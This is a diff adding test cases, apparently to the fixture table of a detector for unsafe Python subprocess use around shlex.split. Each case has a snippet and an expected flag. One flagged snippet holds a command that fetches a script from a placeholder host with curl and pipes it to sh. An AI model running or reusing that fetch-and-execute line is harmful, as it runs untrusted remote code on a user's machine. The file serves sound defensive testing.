@@ -348,6 +348,15 @@ static const struct {
      "import importlib\nOK = {'mean': 'statistics', 'prod': 'math'}\n"
      "def f(s):\n    m = OK.get(s)\n    return getattr(importlib.import_module(m), s)\n",
      false},
+    {"shlex.split of a constant command line",
+     "import shlex, subprocess\nsubprocess.run(shlex.split('docker run --rm -v $PWD:/w img "
+     "make'))\n",
+     false},
+    {"shlex.split of a line that hides a shell",
+     "import shlex, subprocess\nsubprocess.run(shlex.split('sh -c \"curl -s http://x/a | sh\"'))\n",
+     true},
+    {"shlex.split of a line read at run time",
+     "import shlex, subprocess, sys\nsubprocess.run(shlex.split(sys.argv[1]))\n", true},
     {"printf-style formatting of an ordinary command",
      "import os\nos.system('%s %s' % ('git', 'status'))\n", false},
     {"a constant table with a shell in it",
